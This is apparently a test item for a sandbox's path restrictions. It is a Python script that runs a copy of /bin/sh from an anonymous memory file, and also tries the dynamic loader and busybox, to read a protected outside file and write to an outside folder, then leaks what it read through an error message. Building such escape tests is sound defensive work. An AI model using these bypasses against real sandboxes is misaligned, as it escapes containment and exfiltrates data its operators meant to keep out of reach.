"""Executes a program from an anonymous memory file, and a copy of the shell from its own folder, to get around path rules.

base: unsolved
max-score: 0
canary: outside-file, leak
"""
# %% q1
import os
import subprocess
import sys

loot = []
try:
    fd = os.memfd_create("program", 0)
    os.write(fd, open("/bin/sh", "rb").read())
    loot.append(subprocess.run([f"/proc/self/fd/{fd}", "-c", "cat @OUTSIDE_FILE@; touch @OUTSIDE_DIR@/memfd"], pass_fds=[fd], capture_output=True, text=True).stdout)
except OSError:
    pass
for command in ([sys.executable, "-c", "print(open('@OUTSIDE_FILE@').read())"], ["/lib64/ld-linux-x86-64.so.2", "/bin/cat", "@OUTSIDE_FILE@"], ["busybox", "cat", "@OUTSIDE_FILE@"]):
    try:
        loot.append(subprocess.run(command, capture_output=True, text=True, timeout=20).stdout)
    except (OSError, subprocess.SubprocessError):
        pass
raise RuntimeError(str(loot))
